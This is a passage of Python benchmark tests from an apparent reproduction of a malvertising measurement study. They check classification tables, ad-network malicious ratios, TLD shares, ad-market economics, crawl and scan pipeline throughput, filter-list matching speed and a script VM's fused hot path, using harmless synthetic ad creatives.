        f"var digest = hot({index + 1}, {HOTPATH_ITERATIONS});\n"
        "document.write('<span>' + digest + '</span>');"
        "</script></body></html>"
    )


def _ic_creative() -> str:
    """A creative dominated by member reads on a shape-published host.

    ``Math`` publishes a shape token, so after one miss per site every
    ``Math.floor``/``Math.PI`` read is an inline-cache hit — kept out of
    the fusion-timed creatives (a native call per iteration would dilute
    the dispatch-bound ratio the floor protects) and rendered untimed,
    purely so the report's ``ic_hits`` reflects a real render path.
    """
    return (
        "<html><head><title>ic</title></head><body>"
        "<div id='icslot' class='ad-unit'>ic</div>"
        "<script>"
        "function warm(lim) {\n"
        "  var s = 0;\n"
        "  for (var i = 0; i < lim; i++) {\n"
        "    s = s + Math.floor(i / 2) + Math.PI;\n"
        "  }\n"
        "  return s;\n"
        "}\n"
        f"document.write('<span>' + warm({HOTPATH_ITERATIONS}) + '</span>');"
        "</script></body></html>"
    )


def _fusion_pass(enabled: bool, creatives: list[str]):
    """One warm single-threaded bytecode-VM pass with fusion on/off."""
    previous = os.environ.get("REPRO_ADSCRIPT_FUSION")
    os.environ["REPRO_ADSCRIPT_FUSION"] = "on" if enabled else "off"
    try:
        return _engine_pass("bytecode", creatives)
    finally:
        if previous is None:
            os.environ.pop("REPRO_ADSCRIPT_FUSION", None)
        else:
            os.environ["REPRO_ADSCRIPT_FUSION"] = previous


class TestVmHotpath:
    def test_fused_hot_path_beats_unfused(self):
        from repro.adscript.vm import hotpath_stats

        creatives = [_hotpath_creative(i) for i in range(N_HEAVY_CREATIVES)]

        clear_all_caches()
        base = hotpath_stats()
        unfused_time, unfused_reports = _fusion_pass(False, creatives)
        after_unfused = hotpath_stats()
        # clear_all_caches also resets the adscript_ic hit/miss counters,
        # so each pass diffs against a snapshot taken right after its
        # clear, not against the other pass's totals.
        clear_all_caches()
        mid = hotpath_stats()
        fused_time, fused_reports = _fusion_pass(True, creatives)
        after_fused = hotpath_stats()
        # Untimed IC pass: member-read-heavy creative on the cache-opted
        # Math host, so the inline-cache counters reflect a real render.
        _engine_pass("bytecode", [_ic_creative()])
        ic_stats = hotpath_stats()

        supers_unfused = (after_unfused["superinstructions_executed"]
                          - base["superinstructions_executed"])
        supers_fused = (after_fused["superinstructions_executed"]
                        - mid["superinstructions_executed"])
        ic_hits = ic_stats["ic_hits"] - after_fused["ic_hits"]
        ic_misses = ic_stats["ic_misses"] - after_fused["ic_misses"]

        # The hot-path pass must be invisible in the reports.
        assert [_report_key(r) for r in unfused_reports] == \
            [_report_key(r) for r in fused_reports]
        # ... and must actually have run: none off, plenty on.
        assert supers_unfused == 0
        assert supers_fused > 0
        # The IC pass must have served its warm reads from the caches.
        assert ic_hits > 0
        assert ic_hits > ic_misses

        speedup = unfused_time / fused_time if fused_time > 0 \
            else float("inf")
        floor_applies = not SMOKE
        emit("VM_HOTPATH_JSON", {
            "workload": {"creatives": N_HEAVY_CREATIVES,
                         "loop_iterations": HOTPATH_ITERATIONS,
                         "smoke": SMOKE},
            "unfused": {"seconds": round(unfused_time, 3)},
            "fused": {"seconds": round(fused_time, 3),
                      "superinstructions_executed": supers_fused},
            "inline_caches": {"hits": ic_hits, "misses": ic_misses},
            "speedup": round(speedup, 2),
            "floor": {"fusion_speedup": FUSION_SPEEDUP_FLOOR,
                      "enforced": floor_applies,
                      "measured": round(speedup, 2)},
        })

        if floor_applies:
            assert speedup >= FUSION_SPEEDUP_FLOOR, (
                f"fused hot path only {speedup:.2f}x unfused "
                f"(floor {FUSION_SPEEDUP_FLOOR}x)")
