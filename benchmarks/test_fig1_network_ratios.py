"""Benchmark: Figure 1 — malvertising distribution from selected ad networks.

Paper: networks sorted by the ratio of malicious to total ads served; some
(small) networks are clearly preferred by cyber-criminals, with
malvertising making up more than a third of their traffic; only networks
with at least one malvertisement are shown.
"""

from repro.analysis.networks import analyze_networks


def test_fig1_network_ratios(bench_results, benchmark):
    analysis = benchmark(analyze_networks, bench_results)
    print("\n" + analysis.render_figure1())

    implicated = analysis.with_malvertising()
    assert implicated, "some networks must serve malvertising"
    # Sorted descending by ratio, as in the figure.
    ratios = [s.malicious_ratio for s in implicated]
    assert ratios == sorted(ratios, reverse=True)
    # Some networks are heavily implicated ("more than a third").
    assert ratios[0] > 1 / 3 * 0.8  # at least approaching a third
    # The worst offenders are small/shady networks, not the majors.
    worst = implicated[0]
    assert worst.tier in ("shady", "mid")
    # Majors filter well: their ratio is far below the worst offender's.
    major_ratios = [s.malicious_ratio for s in analysis.stats if s.tier == "major"]
    assert major_ratios and max(major_ratios) < ratios[0] / 3
