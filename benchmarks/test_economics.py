"""Benchmark: the economics behind arbitration and the adblock trade-off.

Not a paper figure, but the quantification of two of its claims: ad
networks arbitrate "to increase their revenue" (§4.3) and universal ad
blocking would trigger an economic "domino effect" (§5.2).
"""

from repro.adnet.economics import AdMarket, settle_run
from repro.countermeasures.adblock import simulate_adblock
from repro.filterlists.matcher import FilterEngine


def test_arbitration_economics(bench_results, benchmark):
    world = bench_results.world
    bids = {c.campaign_id: c.bid for c in world.campaigns}
    market = AdMarket(hop_margin=0.15)

    ledger = benchmark(settle_run, world.ecosystem.served_log, bids, market)
    print(f"\ngross spend ${ledger.gross_spend:,.2f}; publishers "
          f"${ledger.total_publisher_revenue:,.2f}; networks "
          f"${ledger.total_network_revenue:,.2f}")

    # Money is conserved.
    assert abs(ledger.total_publisher_revenue + ledger.total_network_revenue
               - ledger.gross_spend) < 1e-6 * ledger.gross_spend
    # Arbitration pays: the network side keeps a sizeable cut in aggregate.
    assert 0.15 < ledger.total_network_revenue / ledger.gross_spend < 0.6
    # Effective CPM collapses along deep chains (the remnant mechanism).
    assert market.effective_cpm(2.0, 20) < 0.1 * market.effective_cpm(2.0, 1)


def test_adblock_domino_effect(bench_results, benchmark):
    engine = FilterEngine.from_text(bench_results.world.easylist_text)
    outcome = benchmark(simulate_adblock, bench_results, engine)
    print("\n" + outcome.render())
    # Near-total protection...
    assert outcome.malicious_exposure_reduction > 0.9
    # ...at near-total publisher cost: the §5.2 domino effect.
    assert outcome.revenue_loss > 0.9
