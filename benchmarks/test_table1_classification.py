"""Benchmark: Table 1 — classification of malvertisements.

Paper: Blacklists 4,794 / Suspicious redirections 1,396 / Heuristics 309 /
Malicious executables 68 / Malicious Flash 31 / Model detection 3 —
6,601 incidents over 673,596 unique ads (≈1%).

The reproduction checks the *shape*: the same bucket ordering, blacklists
as the dominant source, and a malicious fraction of the same order of
magnitude (low single-digit percent at this reduced corpus size).
"""

from repro.analysis.tables import build_table1
from repro.core.incidents import IncidentType


def test_table1_classification(bench_results, benchmark):
    table = benchmark(build_table1, bench_results)
    print("\n" + table.render())

    counts = table.counts
    # Every row of the paper's table is populated.
    assert table.total_incidents > 0
    # Bucket ordering: blacklists dominate, redirections second, the
    # file-level and model buckets are rare.
    assert counts[IncidentType.BLACKLISTS] == max(counts.values())
    assert counts[IncidentType.BLACKLISTS] > counts[IncidentType.SUSPICIOUS_REDIRECTIONS]
    assert counts[IncidentType.SUSPICIOUS_REDIRECTIONS] >= counts[IncidentType.HEURISTICS]
    assert counts[IncidentType.HEURISTICS] >= counts[IncidentType.MODEL_DETECTION]
    assert counts[IncidentType.MODEL_DETECTION] <= 3
    # "about 1% of all the collected advertisements show a malicious
    # behavior" — same order of magnitude at reduced scale.
    assert 0.003 < table.malicious_fraction < 0.05


def test_corpus_scale(bench_results):
    """The crawl must produce a corpus large enough for stable shares."""
    corpus = bench_results.corpus
    print(f"\ncorpus: {corpus.unique_ads} unique ads, "
          f"{corpus.total_impressions} impressions "
          f"(paper: 673,596 unique ads)")
    assert corpus.unique_ads > 1500
    assert corpus.total_impressions > corpus.unique_ads
