"""Benchmark: Figure 2 — distribution of advertisements from selected networks.

Paper: most malvertising-implicated networks carry only a tiny share of all
advertisements — except one outlier serving almost 3% of total ads while
being responsible for a significant amount of malvertising (its filters are
simply bad).
"""

from repro.analysis.networks import analyze_networks


def test_fig2_network_volume(bench_results, benchmark):
    analysis = benchmark(analyze_networks, bench_results)
    print("\n" + analysis.render_figure2())

    implicated = analysis.with_malvertising()
    shares = [analysis.volume_share(s) for s in implicated]
    assert shares
    # Most implicated networks are small (well under 2% of volume each).
    small = sum(1 for share in shares if share < 0.02)
    assert small >= len(shares) * 0.5
    # The engineered outlier: a mid-tier network with meaningful volume
    # (around the paper's ~3%) that still serves malvertising.
    outliers = [s for s in implicated
                if analysis.volume_share(s) > 0.015 and s.malicious_served >= 2]
    assert outliers, "the weak mid-tier network must show up as the Fig.2 outlier"
    assert any(s.tier == "mid" for s in outliers)
