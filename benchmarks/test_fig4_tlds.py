"""Benchmark: Figure 4 — malvertisement distribution by top-level domain.

Paper: .com domains constitute the majority of malvertising-serving sites,
and generic TLDs (mainly .com and .net) make up more than 66% of the
malvertising traffic.
"""

from repro.analysis.tlds import tld_distribution


def test_fig4_tlds(bench_results, benchmark):
    breakdown = benchmark(tld_distribution, bench_results)
    print("\n" + breakdown.render())

    assert breakdown.total > 10
    ranked = breakdown.ranked()
    # .com leads the distribution.
    assert ranked[0][0] == "com"
    assert breakdown.share("com") > 0.35
    # Generic TLDs carry more than ~2/3 of the malvertising sites.
    assert breakdown.generic_share > 0.60
