"""Overlapped streaming pipeline: crawl+scan wall-clock vs sequential phases.

One benchmark, emitting a machine-readable JSON report on stdout:

* **sequential** — parallel crawl to completion, then submit the corpus
  and drain the service (the batch shape: scan time strictly added on
  top of crawl time);
* **overlapped** — the same parallel crawl streamed through the service,
  shard workers submitting first-sight creatives mid-crawl with
  cross-shard dedup, drained after the merge.

The differential assertions run unconditionally on any hardware: both
pipelines must produce the identical corpus fingerprint and identical
per-ad verdicts as a serial streamed crawl, with exactly one oracle scan
per unique creative in the overlapped run.  The wall-clock floor
(overlapped < sequential) only applies where the hardware can hide the
scans inside the crawl — process-mode workers with enough cores; a
single-core box interleaves everything on one CPU and can only assert
correctness.

Set ``BENCH_SMOKE=1`` (the CI smoke job does) to shrink the workload to
seconds and keep only the correctness assertions.
"""

from __future__ import annotations

import json
import os
import time

from repro.core.persistence import corpus_fingerprint
from repro.core.study import Study, StudyConfig
from repro.crawler.parallel import fork_available
from repro.datasets.world import WorldParams
from repro.service import ScanService, ServiceConfig, stream_crawl

from conftest import BENCH_SEED

SMOKE = os.environ.get("BENCH_SMOKE") == "1"

AVAILABLE_CORES = len(os.sched_getaffinity(0))

# Campaign pools are kept small relative to the impression volume so the
# same creatives recur across visits — and therefore across shards,
# which the cross-shard dedup assertions need to exercise.
if SMOKE:
    PARAMS = WorldParams(n_top_sites=8, n_bottom_sites=8,
                         n_other_sites=8, n_feed_sites=2,
                         n_benign_campaigns=10, n_malicious_campaigns=4,
                         variants_per_benign=2, variants_per_malicious=1)
    CONFIG = StudyConfig(seed=BENCH_SEED, days=1, refreshes_per_visit=2,
                         world_params=PARAMS)
    N_WORKERS = 2
else:
    PARAMS = WorldParams(n_top_sites=30, n_bottom_sites=30,
                         n_other_sites=30, n_feed_sites=8,
                         n_benign_campaigns=40, n_malicious_campaigns=8,
                         variants_per_benign=4, variants_per_malicious=2)
    CONFIG = StudyConfig(seed=BENCH_SEED, days=3, refreshes_per_visit=3,
                         world_params=PARAMS)
    N_WORKERS = 4

SERVICE_WORKERS = 2


def emit(name: str, payload: dict) -> None:
    print(f"\n{name} {json.dumps(payload, sort_keys=True)}")


def make_service() -> ScanService:
    return ScanService(ServiceConfig(
        seed=BENCH_SEED, n_workers=SERVICE_WORKERS, world_params=PARAMS,
        batch_max_size=8, batch_max_delay=0.01))


class TestStreamPipeline:
    def test_overlapped_beats_sequential_with_identical_verdicts(self):
        mode = "process" if fork_available() else "thread"

        # Ground truth: the serial streamed crawl.
        study = Study(CONFIG)
        with make_service() as service:
            corpus, _, tickets = stream_crawl(
                study.build_crawler(), study.build_schedule(), service)
            service.drain()
            serial_fp = corpus_fingerprint(corpus)
            serial_verdicts = {ad_id: t.result() for ad_id, t in tickets.items()}
        unique_ads = corpus.unique_ads

        # Sequential phases: crawl everything, then scan everything.
        study = Study(CONFIG)
        crawler = study.build_parallel_crawler(workers=N_WORKERS, mode=mode)
        with make_service() as service:
            started = time.perf_counter()
            seq_corpus, seq_stats = crawler.crawl(study.build_schedule())
            crawl_time = time.perf_counter() - started
            seq_tickets = service.submit_corpus(seq_corpus)
            service.drain()
            sequential_time = time.perf_counter() - started
            seq_verdicts = {t.ad_id: t.result() for t in seq_tickets}
        assert corpus_fingerprint(seq_corpus) == serial_fp
        # Batch submissions carry the merged impression context, so only
        # the label set is comparable — not the verdict bits.
        assert set(seq_verdicts) == set(serial_verdicts)

        # Overlapped: the same crawl streamed through the service.
        study = Study(CONFIG)
        crawler = study.build_parallel_crawler(workers=N_WORKERS, mode=mode)
        with make_service() as service:
            started = time.perf_counter()
            ov_corpus, ov_stats, ov_tickets = stream_crawl(
                crawler, study.build_schedule(), service)
            service.drain()
            overlapped_time = time.perf_counter() - started
            ov_verdicts = {ad_id: t.result()
                           for ad_id, t in ov_tickets.items()}
            snapshot = service.stats()
        counters = snapshot["counters"]

        # The determinism guarantees hold on any hardware.
        assert corpus_fingerprint(ov_corpus) == serial_fp
        assert ov_stats == seq_stats
        assert ov_verdicts == serial_verdicts
        assert counters["scanned"] == unique_ads
        assert counters["first_sight_submissions"] == unique_ads
        assert counters["shard_dedup_hits"] >= 1
        assert counters["overlapped_scans"] >= 1

        pages = seq_stats.pages_visited
        speedup = (sequential_time / overlapped_time
                   if overlapped_time > 0 else float("inf"))
        emit("STREAM_PIPELINE_JSON", {
            "workload": {"pages": pages, "unique_ads": unique_ads,
                         "crawl_workers": N_WORKERS,
                         "service_workers": SERVICE_WORKERS,
                         "mode": mode, "cores": AVAILABLE_CORES,
                         "smoke": SMOKE},
            "sequential": {"seconds": round(sequential_time, 3),
                           "crawl_seconds": round(crawl_time, 3),
                           "scan_seconds": round(sequential_time - crawl_time, 3)},
            "overlapped": {"seconds": round(overlapped_time, 3),
                           "speedup": round(speedup, 2),
                           "scans_mid_crawl": counters["overlapped_scans"],
                           "shard_dedup_hits": counters["shard_dedup_hits"],
                           "queue_high_water": snapshot["queue"]["high_water"],
                           "first_sight_latency_p50_ms": round(
                               snapshot["histograms"]["first_sight_latency"]
                               .get("p50", 0.0) * 1000, 2)},
            "floor": {"enforced": (not SMOKE and mode == "process"
                                   and AVAILABLE_CORES >= 4),
                      "measured_speedup": round(speedup, 2)},
        })

        if SMOKE:
            return
        if mode == "process" and AVAILABLE_CORES >= 4:
            # With cores to spare, hiding the scans inside the crawl must
            # beat paying for them afterwards.
            assert overlapped_time < sequential_time, (
                f"overlapped pipeline took {overlapped_time:.2f}s vs "
                f"{sequential_time:.2f}s sequential on "
                f"{AVAILABLE_CORES} cores")
