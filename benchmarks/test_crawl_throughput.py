"""Crawl throughput: serial vs sharded parallel, plus filter matching.

Two benchmarks, each emitting a machine-readable JSON report on stdout:

* **crawl throughput** — pages/sec for the serial crawler vs the sharded
  :class:`ParallelCrawler` at 2 and 4 workers.  The corpus fingerprint
  must be bit-identical across all of them (asserted unconditionally);
  the speedup floors only apply where the hardware can deliver them —
  parallel page rendering is pure Python, so the process-mode upside
  scales with available CPU cores, and a single-core box can only assert
  "not meaningfully slower".
* **filter matching** — :meth:`FilterEngine.match` over a ≥500-rule
  synthetic list against the pre-index behaviour (scan every distinct
  shortcut with a substring test per URL).  The n-gram index does one
  dict probe per URL position, so the floor here is hardware-independent.

Set ``BENCH_SMOKE=1`` (the CI smoke job does) to shrink the workload to
seconds and keep only the correctness assertions.
"""

from __future__ import annotations

import hashlib
import json
import os
import time

from repro.core.persistence import corpus_fingerprint
from repro.core.study import Study, StudyConfig
from repro.crawler.parallel import fork_available
from repro.datasets.world import WorldParams
from repro.filterlists.easylist import build_easylist
from repro.filterlists.matcher import FilterEngine, _ShortcutIndex
from repro.filterlists.rules import RequestContext

from conftest import BENCH_SEED

SMOKE = os.environ.get("BENCH_SMOKE") == "1"

AVAILABLE_CORES = len(os.sched_getaffinity(0))

# Slowdown allowed before "parallel is not slower" counts as failed
# (fork/merge overhead on hardware with nothing to parallelise onto).
PARALLEL_TOLERANCE = 2.0

# Required 4-worker speedup when the cores exist to provide it.
FOUR_WORKER_SPEEDUP_FLOOR = 2.0

# Required FilterEngine.match speedup over the pre-index scan.
MATCH_SPEEDUP_FLOOR = 3.0

if SMOKE:
    CRAWL_PARAMS = WorldParams(n_top_sites=8, n_bottom_sites=8,
                               n_other_sites=8, n_feed_sites=2)
    CRAWL_CONFIG = StudyConfig(seed=BENCH_SEED, days=1, refreshes_per_visit=2,
                               world_params=CRAWL_PARAMS)
    # 4 workers stays in the smoke matrix so the measured 4-worker ratio
    # lands in the JSON report even where the floor assertion is skipped
    # (single-core CI runners).
    WORKER_COUNTS = (2, 4)
    N_RULES = 500
    N_URLS = 300
    MATCH_ROUNDS = 1
else:
    CRAWL_PARAMS = WorldParams(n_top_sites=40, n_bottom_sites=40,
                               n_other_sites=40, n_feed_sites=10)
    CRAWL_CONFIG = StudyConfig(seed=BENCH_SEED, days=3, refreshes_per_visit=4,
                               world_params=CRAWL_PARAMS)
    WORKER_COUNTS = (2, 4)
    N_RULES = 800
    N_URLS = 2000
    MATCH_ROUNDS = 3


def emit(name: str, payload: dict) -> None:
    print(f"\n{name} {json.dumps(payload, sort_keys=True)}")


class TestCrawlThroughput:
    def test_parallel_speedup_with_identical_corpus(self):
        mode = "process" if fork_available() else "thread"

        study = Study(CRAWL_CONFIG)
        schedule = study.build_schedule()
        started = time.perf_counter()
        corpus, stats = study.build_crawler().crawl(schedule)
        serial_time = time.perf_counter() - started
        serial_fp = corpus_fingerprint(corpus)
        pages = stats.pages_visited

        report = {
            "workload": {"pages": pages, "unique_ads": corpus.unique_ads,
                         "mode": mode, "cores": AVAILABLE_CORES,
                         "smoke": SMOKE},
            "serial": {"seconds": round(serial_time, 3),
                       "pages_per_sec": round(pages / serial_time, 1)},
            "workers": {},
        }
        parallel_times = {}
        for n_workers in WORKER_COUNTS:
            st = Study(CRAWL_CONFIG)
            crawler = st.build_parallel_crawler(workers=n_workers, mode=mode)
            started = time.perf_counter()
            par_corpus, par_stats = crawler.crawl(st.build_schedule())
            elapsed = time.perf_counter() - started
            parallel_times[n_workers] = elapsed

            # The determinism guarantee holds on any hardware.
            assert corpus_fingerprint(par_corpus) == serial_fp
            assert par_stats == stats

            report["workers"][str(n_workers)] = {
                "seconds": round(elapsed, 3),
                "pages_per_sec": round(pages / elapsed, 1),
                "speedup": round(serial_time / elapsed, 2),
            }
        floor_applies = (not SMOKE and mode == "process"
                         and AVAILABLE_CORES >= 4 and 4 in parallel_times)
        report["floor"] = {
            "four_worker_speedup": FOUR_WORKER_SPEEDUP_FLOOR,
            "enforced": floor_applies,
            "measured": (round(serial_time / parallel_times[4], 2)
                         if 4 in parallel_times else None),
        }
        emit("CRAWL_THROUGHPUT_JSON", report)

        if SMOKE:
            return
        # Perf floors, scaled to what the hardware can deliver.
        if mode == "process" and AVAILABLE_CORES >= 4 and 4 in parallel_times:
            assert serial_time / parallel_times[4] >= FOUR_WORKER_SPEEDUP_FLOOR, (
                f"4 workers on {AVAILABLE_CORES} cores: "
                f"{serial_time / parallel_times[4]:.2f}x < "
                f"{FOUR_WORKER_SPEEDUP_FLOOR}x")
        for n_workers, elapsed in parallel_times.items():
            assert elapsed <= serial_time * PARALLEL_TOLERANCE, (
                f"{n_workers} workers took {elapsed:.2f}s vs "
                f"{serial_time:.2f}s serial")


class _LegacyScanIndex:
    """The pre-index candidate lookup: substring-test every shortcut.

    Kept here (not in the engine) purely as the benchmark baseline; its
    per-URL cost is O(#distinct shortcuts × len(url)).
    """

    def __init__(self, modern: _ShortcutIndex) -> None:
        self._by_shortcut = modern._by_shortcut
        self._unindexed = modern._unindexed

    def candidates(self, url):
        lowered = url.lower()
        hits = []
        for shortcut, bucket in self._by_shortcut.items():
            if shortcut in lowered:
                hits.extend(bucket)
        hits.extend(self._unindexed)
        hits.sort(key=lambda entry: entry[0])
        return [rule for _, rule in hits]


def _ad_domains() -> list[str]:
    # Hash-derived names: diverse leading characters, like real ad-serving
    # domains (a shared prefix would pile every rule into one n-gram
    # bucket and benchmark a degenerate index instead).
    return [f"{hashlib.sha1(str(i).encode()).hexdigest()[:8]}-ads.example"
            for i in range(N_RULES)]


def _synthetic_workload() -> tuple[FilterEngine, list[RequestContext]]:
    domains = _ad_domains()
    text = build_easylist(domains, coverage=1.0)
    engine = FilterEngine.from_text(text)
    assert len(engine) >= 500
    urls = []
    for i in range(N_URLS):
        if i % 4 == 0:
            urls.append(f"http://srv{i}.{domains[i % N_RULES]}/ad?i={i}")
        else:
            urls.append(f"http://content{i}.org/articles/{i}/index.html?ref={i}")
    return engine, [RequestContext.for_url(u, resource_type="subdocument")
                    for u in urls]


def _time_matches(engine: FilterEngine, contexts: list[RequestContext]) -> tuple[float, int]:
    blocked = 0
    started = time.perf_counter()
    for _ in range(MATCH_ROUNDS):
        blocked = sum(engine.match(ctx).blocked for ctx in contexts)
    return time.perf_counter() - started, blocked


class TestFilterMatchThroughput:
    def test_ngram_index_speedup(self):
        engine, contexts = _synthetic_workload()
        legacy = FilterEngine.from_text(build_easylist(_ad_domains(),
                                                       coverage=1.0))
        legacy._block_index = _LegacyScanIndex(legacy._block_index)
        legacy._exception_index = _LegacyScanIndex(legacy._exception_index)

        new_time, new_blocked = _time_matches(engine, contexts)
        old_time, old_blocked = _time_matches(legacy, contexts)
        assert new_blocked == old_blocked  # identical verdicts
        assert new_blocked > 0

        matches = len(contexts) * MATCH_ROUNDS
        speedup = old_time / new_time if new_time > 0 else float("inf")
        emit("FILTER_MATCH_JSON", {
            "rules": len(engine),
            "urls": len(contexts),
            "rounds": MATCH_ROUNDS,
            "ngram_matches_per_sec": round(matches / new_time, 1),
            "legacy_matches_per_sec": round(matches / old_time, 1),
            "speedup": round(speedup, 2),
            "smoke": SMOKE,
        })
        if not SMOKE:
            assert speedup >= MATCH_SPEEDUP_FLOOR, (
                f"n-gram index only {speedup:.2f}x faster than the "
                f"legacy scan (floor {MATCH_SPEEDUP_FLOOR}x)")
